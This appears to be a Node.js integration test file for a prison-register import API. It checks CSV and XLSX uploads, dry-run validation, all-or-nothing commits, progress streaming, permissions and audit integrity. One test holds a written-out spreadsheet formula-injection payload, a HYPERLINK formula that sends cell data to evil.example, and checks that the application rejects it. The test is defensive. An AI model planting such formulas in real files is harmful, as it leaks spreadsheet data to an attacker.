import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import ExcelJS from 'exceljs';
import { sql } from 'kysely';
import type { Import, ImportProgressEvent, LocationKind, SexDesignation } from '@vigil/contracts';
import { startTestApp, type Client, type TestApp } from '../../testing/harness.ts';
import { systemContext } from '../../platform/access/actor.ts';
import { verifyAuditChain } from '../../platform/audit/audit.ts';
import { randomUUID } from 'node:crypto';
import { admitPrisoner, prisonerFile } from '../../testing/prisoner-fixtures.ts';
import { runWrite } from '../../platform/db/write.ts';
import { prepareAdmission } from '../prisoners/index.ts';
import { randomPerson } from '../demo/names.ts';
import { seededRandom } from '../demo/random.ts';
import { factories, type Factories } from '../../testing/factories.ts';

const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const HEADER = 'Номер;Фамилия;Имя;Отчество;Дата рождения;Пол;Статус;Статья;Начало срока;Срок;Дата поступления;Камера';

/** A register line in Russian Excel's CSV dialect (semicolons, DD.MM.YYYY). */
function line(number: string, p: { family: string; given: string; patronymic?: string; dob?: string; sex?: string; status?: string; cell?: string }) {
  const convicted = (p.status ?? 'осуждённый') === 'осуждённый';
  return [number, p.family, p.given, p.patronymic ?? '', p.dob ?? '12.04.1990', p.sex ?? 'м', p.status ?? 'осуждённый', '244 ч.2', convicted ? '10.01.2024' : '', convicted ? '5 лет 6 мес' : '', '15.01.2024', p.cell ?? ''].join(';');
}
const csv = (...lines: string[]) => Buffer.from(`\uFEFF${[HEADER, ...lines].join('\r\n')}\r\n`, 'utf8');

describe(`register import over HTTP (${process.env.TEST_STORE ?? 'pglite'})`, () => {
  let t: TestApp;
  let factory: Factories;
  let admin: Client;
  let facility: string;
  let other: string;
  let maleCell: string;
  const random = seededRandom(7);

  async function upload(client: Client, bytes: Buffer, opts: { filename?: string; facilityId?: string; type?: string } = {}) {
    const url = `/api/v1/imports/prisoners?facilityId=${opts.facilityId ?? facility}&filename=${encodeURIComponent(opts.filename ?? 'реестр.csv')}`;
    const res = await fetch(client.base + url, {
      method: 'POST',
      headers: { cookie: client.cookie, 'x-csrf-token': client.csrf, 'content-type': opts.type ?? 'text/csv' },
      body: new Uint8Array(bytes),
    });
    return { status: res.status, body: (await res.json()) as Import & { code?: string; errors?: { path: string; message: string }[] }, headers: res.headers };
  }

  /** Commits and waits for the job to finish, as the screen does by polling. */
  async function commit(client: Client, imp: Import) {
    const started = await client.post(`/api/v1/imports/${imp.id}/commit`, { version: imp.version });
    if (started.status !== 202) return started;
    for (let i = 0; i < 600; i++) {
      const r = await client.get(`/api/v1/imports/${imp.id}`);
      if (r.body.status !== 'committing') return r;
      assert.ok(r.body.progress, 'a running commit shows its progress');
      await new Promise((res) => setTimeout(res, 50));
    }
    throw new Error('the commit did not finish');
  }

  /** Opens the progress stream and collects its events until it ends; `ready` settles at the first. */
  async function follow(client: Client, id: string) {
    const res = await fetch(`${client.base}/api/v1/imports/${id}/progress`, { headers: { cookie: client.cookie } });
    const events: (ImportProgressEvent & { at: number })[] = [];
    if (res.status !== 200) return { status: res.status, problem: (await res.json()) as { code: string }, events, ready: Promise.resolve(), ended: Promise.resolve() };
    assert.match(res.headers.get('content-type') ?? '', /^text\/event-stream/);
    let ready!: () => void;
    const readyP = new Promise<void>((r) => (ready = r));
    const ended = (async () => {
      let buffer = '';
      for await (const chunk of res.body!.pipeThrough(new TextDecoderStream())) {
        buffer += chunk;
        let end: number;
        while ((end = buffer.indexOf('\n\n')) >= 0) {
          const block = buffer.slice(0, end);
          buffer = buffer.slice(end + 2);
          const data = block.split('\n').find((l) => l.startsWith('data: '));
          if (!data) continue;
          events.push({ ...(JSON.parse(data.slice(6)) as ImportProgressEvent), at: Date.now() });
          ready();
        }
      }
    })();
    await readyP;
    return { status: res.status, problem: null, events, ready: readyP, ended };
  }

  type Counted = 'prisoners' | 'placements' | 'prisoner_rows' | 'placement_rows' | 'prisoner_versions' | 'prisoner_search_terms' | 'audit_events' | 'admission_batches' | 'admission_announcements' | 'imports';
  const count = async (table: Counted) =>
    Number((await t.db.selectFrom(table).select((eb) => eb.fn.countAll().as('n')).executeTakeFirstOrThrow()).n);

  before(async () => {
    t = await startTestApp();
    factory = factories(t);
    facility = (await factory.facility('IMP-A')).id;
    other = (await factory.facility('IMP-B')).id;
    const place = (parentId: string | null, kind: LocationKind, code: string, cell?: { capacity: number; sex: SexDesignation }) =>
      factory.place(facility, kind, parentId, { code, ...(cell && { baselineCapacity: cell.capacity, sexDesignation: cell.sex }) });
    const landing = await place((await place((await place(null, 'building', 'A')).id, 'wing', '1')).id, 'landing', '1');
    maleCell = (await place(landing.id, 'cell', '01', { capacity: 2, sex: 'male' })).id;
    await place(landing.id, 'cell', '02', { capacity: 2, sex: 'female' });
    admin = await t.signedIn(['sysadmin'], { facilityIds: [facility] });
  });
  after(() => t.close());

  test('401 without a session, 403 without prisoners.import, 404 for a facility out of scope', async () => {
    const bytes = csv(line('Z-1', { family: 'Саидов', given: 'Умед' }));
    assert.equal((await upload(t.client(), bytes)).status, 401);
    const officer = await t.signedIn(['officer'], { facilityIds: [facility] });
    const denied = await upload(officer, bytes);
    assert.equal(denied.status, 403);
    assert.equal(denied.body.code, 'forbidden');
    const elsewhere = await upload(admin, bytes, { facilityId: other });
    assert.equal(elsewhere.status, 404);
    assert.equal(await count('imports'), 0);
  });

  test('dry run: a row-by-row report, a bad row named by its spreadsheet row; the commit is refused and nothing is written', async () => {
    const people = [randomPerson(random, 'male'), randomPerson(random, 'male'), randomPerson(random, 'male')];
    const bytes = csv(
      line('B-1', { family: people[0]!.familyName, given: people[0]!.givenName }),
      line('B-2', { family: people[1]!.familyName, given: people[1]!.givenName, dob: '31.02.1990', sex: 'x' }),
      line('B-3', { family: people[2]!.familyName, given: people[2]!.givenName }),
      line('b-1', { family: 'Другой', given: 'Человек' }),
    );
    const up = await upload(admin, bytes);
    assert.equal(up.status, 201, JSON.stringify(up.body));
    const imp = up.body;
    assert.equal(imp.format, 'csv');
    assert.equal(imp.status, 'uploaded');
    assert.equal(imp.rowCount, 4);
    assert.equal(imp.mapping.familyName, 'Фамилия');
    assert.equal(imp.mapping.cell, 'Камера');
    assert.equal(imp.sample.length, 4);
    const report = imp.report!;
    assert.deepEqual({ total: report.total, ok: report.ok, invalid: report.invalid, alreadyImported: report.alreadyImported }, { total: 4, ok: 2, invalid: 2, alreadyImported: 0 });
    // Problem rows first, with the row number the spreadsheet shows (the header is row 1).
    assert.deepEqual(report.rows.map((r) => [r.row, r.status]), [[3, 'invalid'], [5, 'invalid'], [2, 'ok'], [4, 'ok']]);
    assert.deepEqual(report.rows[0]!.issues.map((i) => `${i.field}:${i.code}`), ['dateOfBirth:date-invalid', 'sex:sex-unknown']);
    assert.equal(report.rows[0]!.issues[0]!.message, 'There is no such day.');
    assert.deepEqual(report.rows[1]!.issues.map((i) => [i.field, i.code, i.detail]), [['prisonNumber', 'duplicate-in-file', '2']]);

    const before = await count('prisoners');
    const refused = await admin.post(`/api/v1/imports/${imp.id}/commit`, { version: imp.version });
    assert.equal(refused.status, 422);
    assert.equal(refused.body.code, 'import-invalid');
    assert.match(refused.headers.get('content-type') ?? '', /application\/problem\+json/);
    assert.ok(refused.body.errors.some((e: { path: string; message: string }) => e.path === 'rows.3.dateOfBirth' && e.message === 'date-invalid'));
    assert.equal(await count('prisoners'), before);
    assert.equal((await admin.get(`/api/v1/imports/${imp.id}`)).body.status, 'uploaded');
  });

  test('the report comes in the user\'s language', async () => {
    const tg = await t.signedIn(['sysadmin'], { facilityIds: [facility] });
    await tg.put('/api/v1/auth/preferences', { language: 'tg' });
    const up = await upload(tg, csv(line('L-1', { family: 'Саидов', given: 'Умед', sex: '?' })));
    assert.equal(up.body.report!.rows[0]!.issues[0]!.message, 'Ҷинс бояд мард ё зан бошад (м/ж).');
  });

  test('commit: every row or none, each prisoner admitted with a version, a placement in the named cell and an audit event; re-importing the same file adds no one', async () => {
    const [p1, p2] = [randomPerson(random, 'male'), randomPerson(random, 'male')];
    const bytes = csv(
      line('C-1', { family: p1.familyName, given: p1.givenName, patronymic: p1.patronymic ?? '', cell: 'A-1-1-01' }),
      line('C-2', { family: p2.familyName, given: p2.givenName, status: 'подследственный' }),
    );
    const up = await upload(admin, bytes, { filename: 'реестр-2024.csv' });
    assert.equal(up.status, 201);
    assert.equal(up.body.status, 'validated', JSON.stringify(up.body.report));
    const beforePrisoners = await count('prisoners');
    const done = await commit(admin, up.body);
    assert.equal(done.status, 200, JSON.stringify(done.body));
    assert.equal(done.body.status, 'committed');
    assert.equal(done.body.createdCount, 2);
    assert.deepEqual(done.body.sample, [], 'the rows are not kept once they are in the files');
    assert.equal(await count('prisoners'), beforePrisoners + 2);

    const c1 = await t.db.selectFrom('prisoners').selectAll().where('prison_number', '=', 'C-1').executeTakeFirstOrThrow();
    assert.equal(c1.facility_id, facility);
    assert.equal(c1.current_location_id, maleCell);
    // Each admission is a domain event, as at reception, for the modules that react to it.
    const admitted = await t.db.selectFrom('domain_events').select(['entity_id', 'payload', 'facility_id']).where('type', '=', 'prisoner.admitted').where('entity_id', '=', c1.id).execute();
    assert.deepEqual(admitted, [{ entity_id: c1.id, facility_id: facility, payload: { prisonerId: c1.id, readmission: false } }]);
    assert.equal(c1.version, 1);
    assert.equal(c1.latest_release_date, '2029-07-10');
    const file = c1.file as { legal: { commitmentOrders: { kind: string; issuedBy: string; reference: string }[] } };
    assert.equal(file.legal.commitmentOrders[0]!.kind, 'transfer-order');
    assert.equal(file.legal.commitmentOrders[0]!.issuedBy, 'imported register реестр-2024.csv');
    const versions = await t.db.selectFrom('prisoner_versions').select(['version', 'reason']).where('prisoner_id', '=', c1.id).execute();
    assert.deepEqual(versions, [{ version: 1, reason: 'imported from register реестр-2024.csv' }]);
    const found = await admin.get(`/api/v1/prisoners?q=${encodeURIComponent(p1.familyNameLatin)}`);
    assert.ok(found.body.items.some((i: { prisonNumber: string }) => i.prisonNumber === 'C-1'), 'imported prisoners are found by name in any script');
    const events = await t.db.selectFrom('audit_events').select(['action', 'entity_id']).where('action', 'in', ['import.uploaded', 'import.committed', 'prisoner.admitted']).execute();
    assert.ok(events.some((e) => e.action === 'import.committed' && e.entity_id === up.body.id));
    assert.ok(events.some((e) => e.action === 'prisoner.admitted' && e.entity_id === c1.id));

    // The same file again: every row is recognised, nothing new is created.
    const again = await upload(admin, bytes, { filename: 'реестр-2024.csv' });
    assert.equal(again.body.sameFileImportId, up.body.id);
    assert.equal(again.body.report!.alreadyImported, 2);
    assert.equal(again.body.status, 'validated');
    const redone = await commit(admin, again.body);
    assert.equal(redone.body.status, 'committed');
    assert.equal(redone.body.createdCount, 0);
    assert.equal(await count('prisoners'), beforePrisoners + 2);

    // Committing twice is refused.
    const twice = await admin.post(`/api/v1/imports/${up.body.id}/commit`, { version: done.body.version });
    assert.equal(twice.status, 409);
    assert.equal(twice.body.code, 'import-closed');
  });

  test('progress: while the commit runs, its rows done so far are known, and nothing is visible in the database yet', async () => {
    const lines = Array.from({ length: 60 }, (_, i) => line(`P-${i}`, { family: 'Назаров', given: `Комрон${i}`, status: 'подследственный' }));
    const up = await upload(admin, csv(...lines));
    assert.equal(up.body.status, 'validated');
    const started = await admin.post(`/api/v1/imports/${up.body.id}/commit`, { version: up.body.version });
    assert.equal(started.status, 202);
    assert.equal(started.body.status, 'committing');
    assert.deepEqual(started.body.progress, { processed: 0, total: 60 });
    const seen: number[] = [];
    let partialRowsVisible = false;
    for (;;) {
      // The service itself, as a poll finds it (over HTTP the embedded database makes a request wait for the commit).
      const now = await t.services.imports.get(systemContext('test'), up.body.id);
      if (now.status !== 'committing') break;
      seen.push(now.progress!.processed);
      // Another session sees no row until the import itself reads as committed (same snapshot).
      // The embedded database has one session: a query there would wait for the commit.
      if (t.store === 'postgres') {
        const r = await t.db
          .selectFrom('imports')
          .select(['status', (eb) => eb.selectFrom('prisoners').select((e) => e.fn.countAll<string>().as('n')).where('prison_number', 'like', 'P-%').as('visible')])
          .where('id', '=', up.body.id)
          .executeTakeFirstOrThrow();
        if (Number(r.visible) > 0 && r.status !== 'committed') partialRowsVisible = true;
      }
      await new Promise((r) => setTimeout(r, 20));
    }
    assert.ok(seen.some((n) => n > 0 && n < 60), `progress seen: ${seen.join(',')}`);
    assert.ok(!partialRowsVisible, 'the transaction hides rows until the commit ends');
    assert.equal((await admin.get(`/api/v1/imports/${up.body.id}`)).body.createdCount, 60);
  });

  test('progress stream: opened before the commit, it tells each stage over HTTP while the commit holds the database, on either store', async () => {
    const lines = Array.from({ length: 60 }, (_, i) => line(`S-${i}`, { family: 'Шарипов', given: `Фирӯз${i}`, status: 'подследственный' }));
    const up = await upload(admin, csv(...lines));
    const stream = await follow(admin, up.body.id);
    assert.deepEqual(stream.events.map((e) => e.type), ['waiting']);

    const started = await admin.post(`/api/v1/imports/${up.body.id}/commit`, { version: up.body.version });
    assert.equal(started.status, 202);
    const postedAt = Date.now();
    await stream.ended;
    const finishedAt = stream.events.at(-1)!.at;
    const counts = stream.events.flatMap((e) => (e.type === 'progress' ? [e.processed] : []));
    assert.deepEqual(stream.events.at(-1), { type: 'finished', status: 'committed', at: finishedAt });
    assert.ok(counts.every((n, i) => i === 0 || n >= counts[i - 1]!), `progress only goes forward: ${counts.join(',')}`);
    assert.equal(counts.at(-1), 60);
    // Rows part-way through arrived while the commit was still running, not all at its end.
    const partWay = stream.events.filter((e) => e.type === 'progress' && e.processed > 0 && e.processed < 60);
    assert.ok(partWay.length > 0, `part-way progress: ${counts.join(',')}`);
    assert.ok(partWay[0]!.at < finishedAt && partWay[0]!.at >= postedAt - 1000);
    assert.equal((await admin.get(`/api/v1/imports/${up.body.id}`)).body.status, 'committed');

    // Opened after the end, it says so at once and ends.
    const late = await follow(admin, up.body.id);
    await late.ended;
    assert.deepEqual(late.events.map(({ at: _at, ...e }) => e), [{ type: 'finished', status: 'committed' }]);
  });

  test('a failure at the very end of the commit leaves nothing written; the import can be committed again', async () => {
    const lines = Array.from({ length: 30 }, (_, i) => line(`Q-${i}`, { family: 'Раҳимов', given: `Ҷамшед${i}`, status: 'подследственный' }));
    const up = await upload(admin, csv(...lines));
    assert.equal(up.body.status, 'validated');
    const tables = ['prisoners', 'prisoner_rows', 'prisoner_versions', 'prisoner_search_terms', 'placements', 'placement_rows', 'audit_events'] as const;
    const before = await Promise.all(tables.map(count));
    // An injected failure as late as it gets: every row is written (unseen), and the database
    // refuses the import.committed audit event, the committing transaction's last insert.
    await sql`create function refuse_import_commit() returns trigger language plpgsql as $$
      begin
        if new.action = 'import.committed' then raise exception 'injected failure'; end if;
        return new;
      end $$`.execute(t.db);
    await sql`create trigger refuse_import_commit before insert on audit_events for each row execute function refuse_import_commit()`.execute(t.db);
    try {
      const failed = await commit(admin, up.body);
      assert.equal(failed.body.status, 'failed');
      assert.equal(failed.body.createdCount, 0);
    } finally {
      await sql`drop trigger refuse_import_commit on audit_events`.execute(t.db);
      await sql`drop function refuse_import_commit()`.execute(t.db);
    }
    const after = await Promise.all(tables.map(count));
    // Nothing but the import.failed event: no prisoner, version, search term or placement, seen or not.
    assert.deepEqual(after, before.map((n, i) => (tables[i] === 'audit_events' ? n + 1 : n)));
    assert.equal(await t.db.selectFrom('admission_batches').select('id').where('id', '=', up.body.id).executeTakeFirst(), undefined, 'the batch is gone too');
    assert.equal(await count('admission_announcements'), 0);
    assert.ok((await verifyAuditChain(t.db)).ok);

    const current = (await admin.get(`/api/v1/imports/${up.body.id}`)).body as Import;
    const again = await commit(admin, current);
    assert.equal(again.body.status, 'committed');
    assert.equal(again.body.createdCount, 30);
    assert.equal(await count('admission_announcements'), 0, 'every admission announced');
    const ids = (await t.db.selectFrom('prisoners').select('id').where('prison_number', 'like', 'Q-%').execute()).map((r) => r.id);
    const admitted = await t.db.selectFrom('audit_events').select('entity_id').where('action', '=', 'prisoner.admitted').where('entity_id', 'in', ids).execute();
    assert.equal(admitted.length, 30, 'one prisoner.admitted event each, written after the commit');
    assert.ok((await verifyAuditChain(t.db)).ok);
  });

  test('admissions stay unseen until their batch commits; a stopped commit is dropped or finished at start-up', async () => {
    const admissions = t.services.prisoners.admissions;
    const ctx = { ...systemContext('batch-tester'), requestId: 'test-batch' };
    const now = new Date();
    const prepare = (n: number, prefix: string) =>
      Array.from({ length: n }, (_, i) =>
        prepareAdmission({ line: i + 2, facilityId: facility, facilityCode: 'IMP-A', prisonNumber: `${prefix}-${i}`, admittedAt: now, reason: 'test', location: null, file: prisonerFile({ familyName: 'Ғоибов', givenName: `Мирзо${i}` }) }, now, now.toISOString().slice(0, 10)),
      );
    const seen = async (prefix: string) => Number((await t.db.selectFrom('prisoners').select((e) => e.fn.countAll().as('n')).where('prison_number', 'like', `${prefix}-%`).executeTakeFirstOrThrow()).n);
    const roll = async () => (await admin.get(`/api/v1/prisoners?facilityId=${facility}&q=Ғоибов`)).body.items.length;

    // Written but not committed: no reader sees them, and a number staged is held.
    const open = randomUUID();
    await admissions.open(ctx, { id: open, facilityId: facility, reason: 'test' });
    assert.deepEqual(await admissions.stage(open, prepare(5, 'U')), []);
    assert.equal(await seen('U'), 0);
    assert.equal(await roll(), 0);
    assert.equal(await count('placements'), await count('placement_rows') - 5);
    assert.deepEqual(await admissions.stage(open, prepare(1, 'U')), [2], 'U-0 is held by the open batch');

    // Committed but not announced when the process stopped.
    const stopped = randomUUID();
    await admissions.open(ctx, { id: stopped, facilityId: facility, reason: 'test' });
    await admissions.stage(stopped, prepare(700, 'V'));
    const auditBefore = await count('audit_events');
    await runWrite(t.db, ctx, async ({ trx, audit }) => {
      assert.equal(await admissions.commit(trx, stopped), 700);
      await audit({ action: 'import.committed', entityType: 'import', entityId: stopped, facilityId: facility, after: null });
    });
    assert.equal(await seen('V'), 700, 'all seen at once');

    // What start-up does: the open batch is dropped unseen, the committed one announced.
    await t.services.imports.resume();
    assert.equal(await count('prisoner_rows'), await count('prisoners'));
    assert.equal(await count('placement_rows'), await count('placements'));
    assert.deepEqual(await admissions.unfinished(), []);
    const events = await t.db.selectFrom('audit_events').select(['entity_id', 'actor_username', 'request_id']).where('action', '=', 'prisoner.admitted').where('seq', '>', String(auditBefore)).orderBy('seq').execute();
    assert.equal(events.length, 700);
    assert.ok(events.every((e) => e.actor_username === 'batch-tester' && e.request_id === 'test-batch'), 'the committing actor, kept on the batch');
    const published = await t.db.selectFrom('domain_events').select((e) => e.fn.countAll().as('n')).where('type', '=', 'prisoner.admitted').where('entity_id', 'in', events.map((e) => e.entity_id!)).executeTakeFirstOrThrow();
    assert.equal(Number(published.n), 700);
    assert.ok((await verifyAuditChain(t.db)).ok);
  });

  test('progress stream: 401 without a session, 403 without prisoners.import, 404 out of scope', async () => {
    const up = await upload(admin, csv(line('S-X', { family: 'Шарипов', given: 'Далер' })));
    assert.equal((await follow(t.client(), up.body.id)).status, 401);
    const officer = await t.signedIn(['officer'], { facilityIds: [facility] });
    assert.equal((await follow(officer, up.body.id)).status, 403);
    const elsewhere = await t.signedIn(['sysadmin'], { facilityIds: [other] });
    const hidden = await follow(elsewhere, up.body.id);
    assert.equal(hidden.status, 404);
    assert.equal(hidden.problem!.code, 'not-found');
  });

  test('a prison number that belongs to someone else is an error, not a skip', async () => {
    await admitPrisoner(t, facility, { prisonNumber: 'D-1', familyName: 'Қодиров', givenName: 'Зафар' });
    const up = await upload(admin, csv(line('D-1', { family: 'Назаров', given: 'Комрон' })));
    assert.deepEqual(up.body.report!.rows[0]!.issues.map((i) => i.code), ['prison-number-taken']);
  });

  test('cells: an unknown cell, the wrong sex, over capacity (counting rows above), untried with convicted', async () => {
    const up = await upload(admin, csv(
      line('E-1', { family: 'Сафарова', given: 'Нигора', sex: 'ж', cell: 'A-1-1-01' }),
      line('E-2', { family: 'Давлатов', given: 'Рустам', cell: 'A-1-1-99' }),
      line('E-3', { family: 'Бобоев', given: 'Далер', status: 'подследственный', cell: '01' }),
    ));
    const byRow = new Map(up.body.report!.rows.map((r) => [r.row, r.issues.map((i) => i.code)]));
    assert.deepEqual(byRow.get(2), ['cell-sex-designation', 'cell-sex-mix']);
    assert.deepEqual(byRow.get(3), ['cell-unknown']);
    // Cell 01 already holds C-1 (convicted): an untried prisoner may not join them (Rule 11(b)).
    assert.deepEqual(byRow.get(4), ['cell-separation-legal-status']);

    const full = await upload(admin, csv(
      line('F-1', { family: 'Юсуфов', given: 'Шерзод', cell: 'A-1-1-01' }),
      line('F-2', { family: 'Умаров', given: 'Суҳроб', cell: 'A-1-1-01' }),
    ));
    const rows = new Map(full.body.report!.rows.map((r) => [r.row, r.issues.map((i) => i.code)]));
    assert.deepEqual(rows.get(2), []);
    assert.deepEqual(rows.get(3), ['cell-over-capacity']);
  });

  test('a formula-injection cell refuses its row and is never stored', async () => {
    const bytes = Buffer.from(`${HEADER}\n"G-1";"=HYPERLINK(""http://evil.example/?leak=""&A1;""Open"")";Фаррух;;12.04.1990;м;подследственный;;;;15.01.2024;\n`);
    const up = await upload(admin, bytes);
    assert.equal(up.status, 201);
    assert.deepEqual(up.body.report!.rows[0]!.issues.map((i) => `${i.field}:${i.code}`), ['familyName:formula-like']);
    const stored = await t.db.selectFrom('imports').select('rows').where('id', '=', up.body.id).executeTakeFirstOrThrow();
    assert.ok(!JSON.stringify(stored.rows).includes('HYPERLINK'));
    assert.ok(!JSON.stringify(up.body).includes('HYPERLINK'));
  });

  test('the mapping can be changed in a dry run; stale versions conflict; a required field left out is refused', async () => {
    const bytes = Buffer.from('Рақам,Ному насаб,Санаи таваллуд,Ҷинс,Вазъ,Эзоҳ\nH-1,Раҳимов Фаррух,1990-04-12,мард,айбдоршаванда,x\n');
    const up = await upload(admin, bytes);
    assert.equal(up.body.status, 'validated', JSON.stringify(up.body.report));
    assert.equal(up.body.mapping.fullName, 'Ному насаб');
    const incomplete = await admin.post(`/api/v1/imports/${up.body.id}/dry-run`, { mapping: { ...up.body.mapping, sex: null }, version: up.body.version });
    assert.equal(incomplete.status, 422);
    assert.equal(incomplete.body.code, 'import-mapping-incomplete');
    assert.deepEqual(incomplete.body.errors, [{ path: 'mapping.sex', message: 'required' }]);
    const remapped = await admin.post(`/api/v1/imports/${up.body.id}/dry-run`, { mapping: { ...up.body.mapping, placeOfBirth: 'Эзоҳ' }, version: up.body.version });
    assert.equal(remapped.status, 200, JSON.stringify(remapped.body));
    assert.equal(remapped.body.version, up.body.version + 1);
    assert.equal(remapped.body.mapping.placeOfBirth, 'Эзоҳ');
    const stale = await admin.post(`/api/v1/imports/${up.body.id}/commit`, { version: up.body.version });
    assert.equal(stale.status, 409);
    assert.equal(stale.body.code, 'edit-conflict');
    const done = await commit(admin, remapped.body);
    assert.equal(done.body.status, 'committed');
    const h1 = await t.db.selectFrom('prisoners').select(['family_name', 'given_name', 'file']).where('prison_number', '=', 'H-1').executeTakeFirstOrThrow();
    assert.deepEqual([h1.family_name, h1.given_name, (h1.file as { identity: { placeOfBirth: string } }).identity.placeOfBirth], ['Раҳимов', 'Фаррух', 'x']);
  });

  test('an XLSX register made with exceljs round-trips: date cells, numbers, Tajik letters', async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('Реестр');
    ws.addRow(['Рақами маҳбус', 'Насаб', 'Ном', 'Санаи таваллуд', 'Ҷинс', 'Вазъ', 'Камера']);
    ws.addRow([5001, 'Ғаффоров', 'Ҷӯрабек', new Date(Date.UTC(1985, 10, 3)), 'мард', 'айбдоршаванда', null]);
    ws.addRow(['X-5002', 'Қаҳҳорова', 'Меҳрангез', '03.11.1992', 'зан', 'айбдоршаванда', null]);
    const bytes = Buffer.from(await wb.xlsx.writeBuffer());
    const up = await upload(admin, bytes, { filename: 'реестр.xlsx', type: XLSX_TYPE });
    assert.equal(up.status, 201, JSON.stringify(up.body));
    assert.equal(up.body.format, 'xlsx');
    assert.equal(up.body.status, 'validated', JSON.stringify(up.body.report));
    const done = await commit(admin, up.body);
    assert.equal(done.body.createdCount, 2);
    const rows = await t.db.selectFrom('prisoners').select(['prison_number', 'family_name', 'date_of_birth', 'sex']).where('prison_number', 'in', ['5001', 'X-5002']).orderBy('prison_number').execute();
    assert.deepEqual(rows, [
      { prison_number: '5001', family_name: 'Ғаффоров', date_of_birth: '1985-11-03', sex: 'male' },
      { prison_number: 'X-5002', family_name: 'Қаҳҳорова', date_of_birth: '1992-11-03', sex: 'female' },
    ]);
  });

  test('a malformed file is 400 import-unreadable, a file over 20 MB is 413, JSON is 415; nothing is stored', async () => {
    const before = await count('imports');
    const malformed = await upload(admin, Buffer.from('Номер;Фамилия\n"1;Раҳимов\n'));
    assert.equal(malformed.status, 400);
    assert.equal(malformed.body.code, 'import-unreadable');
    assert.match(malformed.headers.get('content-type') ?? '', /application\/problem\+json/);
    const brokenXlsx = await upload(admin, Buffer.concat([Buffer.from('PK\u0003\u0004'), Buffer.alloc(2048, 1)]), { type: XLSX_TYPE });
    assert.equal(brokenXlsx.status, 400);
    assert.equal(brokenXlsx.body.code, 'import-unreadable');
    const huge = await upload(admin, Buffer.alloc(20 * 1024 * 1024 + 1, 0x41), { type: 'application/octet-stream' });
    assert.equal(huge.status, 413);
    assert.equal(huge.body.code, 'payload-too-large');
    const json = await admin.post(`/api/v1/imports/prisoners?facilityId=${facility}&filename=x.csv`, { rows: [] });
    assert.equal(json.status, 415);
    const empty = await upload(admin, Buffer.from('Номер;Фамилия\n'));
    assert.equal(empty.status, 422);
    assert.equal(empty.body.code, 'import-empty');
    assert.equal(await count('imports'), before);
  });

  test('imports list in scope; the audit chain verifies', async () => {
    const list = await admin.get(`/api/v1/imports?facilityId=${facility}`);
    assert.equal(list.status, 200);
    assert.ok(list.body.items.length >= 5);
    const outsider = await t.signedIn(['sysadmin'], { facilityIds: [other] });
    assert.deepEqual((await outsider.get('/api/v1/imports')).body.items, []);
    assert.equal((await outsider.get(`/api/v1/imports/${list.body.items[0].id}`)).status, 404);
    assert.ok((await verifyAuditChain(t.db)).ok);
  });
});
